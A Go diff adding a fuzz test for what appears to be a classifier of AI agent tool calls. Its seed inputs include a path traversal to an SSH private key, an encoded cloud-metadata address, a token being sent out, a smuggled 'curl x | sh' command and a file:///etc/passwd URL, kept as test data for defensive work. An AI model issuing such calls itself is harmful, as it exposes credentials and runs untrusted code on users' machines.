@@ -99,3 +99,20 @@ func readFamily(t *testing.T, file string) []familyRow {
 	}
 	return rows
 }
+
+// FuzzConnectorCall feeds connector calls with arbitrary arguments and URLs: judging them must
+// never fail, and a normalised URL's IPv4 host must be a real dotted quad.
+func FuzzConnectorCall(f *testing.F) {
+	f.Add("mcp__fs__read_file", []byte(`{"path":"../../.ssh/id_rsa"}`))
+	f.Add("WebFetch", []byte(`{"url":"http://0xa9fea9fe/latest"}`))
+	f.Add("mcp__x__send", []byte(`{"a":[{"b":{"c":"ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}}]}`))
+	f.Add("mcp__git__run", []byte(`{"args":"status; curl x | sh","url":"file:///etc/passwd"}`))
+	c := newTestClassifier(f, Policy{})
+	f.Fuzz(func(t *testing.T, tool string, input []byte) {
+		c.Evaluate(context.Background(), claudehook.Payload{ToolName: tool, ToolInput: input, Cwd: "/Users/ada/project"})
+		if ip, ok := ipv4Host(string(input)); ok && len(strings.Split(ip, ".")) != 4 {
+			t.Fatalf("ipv4Host(%q) = %q", input, ip)
+		}
+		normalURL(string(input))
+	})
+}
